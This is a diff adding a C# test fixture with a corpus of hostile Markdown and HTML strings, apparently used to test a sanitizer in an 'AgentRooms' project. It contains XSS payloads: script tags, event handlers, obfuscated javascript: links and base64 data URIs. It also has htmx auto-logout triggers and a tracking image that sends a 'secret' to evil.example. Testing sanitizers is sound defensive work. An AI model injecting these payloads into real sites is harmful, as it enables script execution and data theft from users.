@@ -1,0 +1,34 @@
+namespace AgentRooms.Tests.Shared;
+
+/// <summary>Markdown and HTML that tries to run script, fetch from elsewhere or smuggle htmx attributes.</summary>
+public static class HostileMarkdown
+{
+    public static readonly string[] Corpus =
+    [
+        "<script>window.__pwned = 1</script>",
+        "<img src=x onerror=\"window.__pwned = 2\">",
+        "<svg onload=\"window.__pwned = 3\"><circle r=5 /></svg>",
+        "<iframe src=\"https://evil.example/\"></iframe>",
+        "[click](javascript:window.__pwned=4)",
+        "[click](JaVaScRiPt:window.__pwned=5)",
+        "[click](jav&#x61;script:window.__pwned=6)",
+        "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=7)",
+        "[click](java\tscript:window.__pwned=8)",
+        "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD05PC9zY3JpcHQ+)",
+        "[vb](vbscript:msgbox(10))",
+        "![pixel](https://evil.example/pixel.png?leak=secret)",
+        "![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+        "[ref link][evil]\n\n[evil]: javascript:window.__pwned=11",
+        "<javascript:window.__pwned=12>",
+        "<https://evil.example/autolink>",
+        "[htmx]{hx-get=/rooms hx-trigger=load}",
+        "# Title {hx-get=\"/rooms\" hx-trigger=\"load\" onclick=\"window.__pwned=13\"}",
+        "<div hx-get=\"/Account/Logout\" hx-trigger=\"load\" hx-post=\"/Account/Logout\">x</div>",
+        "<a href=\"#\" onclick=\"window.__pwned=14\">a</a>",
+        "<style>body{display:none}</style>",
+        "<form action=\"https://evil.example/\"><input name=q><button>go</button></form>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=15>",
+        "`<script>window.__pwned=16</script>`",
+        "**bold** and _italic_ and `code` and [a link](https://example.org/page)\n\n- one\n- two\n\n> quoted\n\n```\nblock <b>code</b>\n```",
+    ];
+}
